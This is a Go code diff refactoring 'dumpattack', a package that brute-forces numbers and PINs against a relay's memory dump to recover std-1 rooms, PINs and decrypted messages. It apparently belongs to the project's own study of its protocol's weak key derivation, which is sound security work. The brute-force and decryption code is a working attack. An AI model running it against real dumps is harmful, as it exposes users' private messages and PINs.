@@ -6,17 +6,16 @@ package dumpattack
 
 import (
 	"bytes"
-	"crypto/aes"
-	"crypto/cipher"
-	"crypto/pbkdf2"
 	"crypto/sha256"
 	"encoding/binary"
-	"encoding/hex"
 	"fmt"
 	"math"
 	"runtime"
 	"slices"
 	"sync"
+
+	"sotto/client"
+	"sotto/wire"
 )
 
 // Region is memory that lay at an address.
@@ -86,9 +85,7 @@ type Plan struct {
 // size is how many numbers there are.
 func (p Plan) size() int { return int(math.Pow10(p.Digits)) }
 
-func (p Plan) number(dst []byte, i int) []byte {
-	return fmt.Appendf(dst, "%s%0*d", p.Prefix, p.Digits, i)
-}
+func (p Plan) number(i int) string { return fmt.Sprintf("%s%0*d", p.Prefix, p.Digits, i) }
 
 // Room is a room of std-1 that was opened.
 type Room struct {
@@ -106,11 +103,10 @@ func (d *Dump) OpenStd1(plan Plan) []Room {
 	workers := runtime.GOMAXPROCS(0)
 	for w := range workers {
 		wg.Go(func() {
-			var number []byte
 			for i := w; i < plan.size(); i += workers {
-				number = plan.number(number[:0], i)
-				if room := std1Room(number); d.Has(&room) {
-					opened := d.openRoom(number, &room)
+				number := plan.number(i)
+				if room := [32]byte(std1(number, "0").Room()); d.Has(&room) {
+					opened := d.openRoom(number)
 					mu.Lock()
 					rooms = append(rooms, opened)
 					mu.Unlock()
@@ -123,22 +119,24 @@ func (d *Dump) OpenStd1(plan Plan) []Room {
 }
 
 // openRoom looks for the seats of a room, and for messages where their hashes are.
-func (d *Dump) openRoom(number []byte, room *[32]byte) Room {
-	opened := Room{Number: string(number)}
-	var aead cipher.AEAD
+func (d *Dump) openRoom(number string) Room {
+	opened := Room{Number: number}
+	var key *client.Key
 	for digits := 4; digits <= 6; digits++ {
-		for i := range (Plan{Digits: digits}).size() {
-			pin := fmt.Appendf(nil, "%0*d", digits, i)
-			access := std1Access(number, pin)
+		pins := Plan{Digits: digits}
+		for i := range pins.size() {
+			pin := pins.number(i)
+			id := std1(number, pin)
+			access := id.Access()
 			if bearer := sha256.Sum256(access[:]); !d.Has(&bearer) {
 				continue
 			}
-			opened.PINs = append(opened.PINs, string(pin))
-			if aead == nil { // slow, so only now
-				aead = newAEAD(std1Key(number, hex.EncodeToString(room[:])))
+			opened.PINs = append(opened.PINs, pin)
+			if key == nil { // slow, so only now
+				key = id.Key()
 			}
-			sender := std1Sender(number, &access, room)
-			for _, text := range d.messages(&sender, aead) {
+			sender := [32]byte(id.Sender())
+			for _, text := range d.messages(&sender, key) {
 				if !slices.Contains(opened.Texts, text) {
 					opened.Texts = append(opened.Texts, text)
 				}
@@ -148,10 +146,19 @@ func (d *Dump) openRoom(number []byte, room *[32]byte) Room {
 	return opened
 }
 
+// std1 derives what std-1 makes of a number and a PIN.
+func std1(number, pin string) client.Identity {
+	id, err := client.Derive(number, pin)
+	if err != nil {
+		panic("dumpattack: " + err.Error()) // refuses what is empty only
+	}
+	return id
+}
+
 // messages opens what is pointed to from near the hash of an author, by
 // whatever stands near it too and may be the iv: nothing need be known of how the
 // relay lays out a message.
-func (d *Dump) messages(sender *[32]byte, aead cipher.AEAD) (texts []string) {
+func (d *Dump) messages(sender *[32]byte, key *client.Key) (texts []string) {
 	const near = 192
 	for _, r := range d.regions {
 		for from := 0; ; {
@@ -168,8 +175,8 @@ func (d *Dump) messages(sender *[32]byte, aead cipher.AEAD) (texts []string) {
 					continue
 				}
 				ciphertext := d.at(address, size)
-				for j := 0; ciphertext != nil && j+aead.NonceSize() <= len(around); j++ {
-					if text, err := aead.Open(nil, around[j:j+aead.NonceSize()], ciphertext, nil); err == nil {
+				for j := 0; ciphertext != nil && j+wire.IVSize <= len(around); j++ {
+					if text, err := key.Open(client.Sealed{IV: [wire.IVSize]byte(around[j:]), Ciphertext: ciphertext}); err == nil {
 						texts = append(texts, string(text))
 					}
 				}
@@ -180,45 +187,3 @@ func (d *Dump) messages(sender *[32]byte, aead cipher.AEAD) (texts []string) {
 }
 
 func word(b []byte, i int) uint64 { return binary.LittleEndian.Uint64(b[i:]) }
-
-// The derivations of std-1, which wire/PROTOCOL.md has in a table.
-
-func std1Room(number []byte) [32]byte {
-	return sum(number, ":stelegano-room-v1-2026")
-}
-
-func std1Access(number, pin []byte) [32]byte {
-	return sum(number, ":", string(pin), ":stelegano-access-v1-2026")
-}
-
-func std1Sender(number []byte, access, room *[32]byte) [32]byte {
-	return sum(number, ":", hex.EncodeToString(access[:]), ":", hex.EncodeToString(room[:]), ":stelegano-sender-v1-2026")
-}
-
-func std1Key(number []byte, room string) []byte {
-	key, err := pbkdf2.Key(sha256.New, string(number), []byte(room+"stelegano-enc-v1-2026"), 600_000, 32)
-	if err != nil {
-		panic("dumpattack: " + err.Error()) // refuses parameters only, which are constants
-	}
-	return key
-}
-
-func sum(number []byte, rest ...string) [32]byte {
-	text := append(make([]byte, 0, 256), number...)
-	for _, s := range rest {
-		text = append(text, s...)
-	}
-	return sha256.Sum256(text)
-}
-
-func newAEAD(key []byte) cipher.AEAD {
-	block, err := aes.NewCipher(key)
-	if err != nil {
-		panic("dumpattack: " + err.Error()) // refuses lengths only
-	}
-	aead, err := cipher.NewGCM(block)
-	if err != nil {
-		panic("dumpattack: " + err.Error()) // refuses block sizes only
-	}
-	return aead
-}
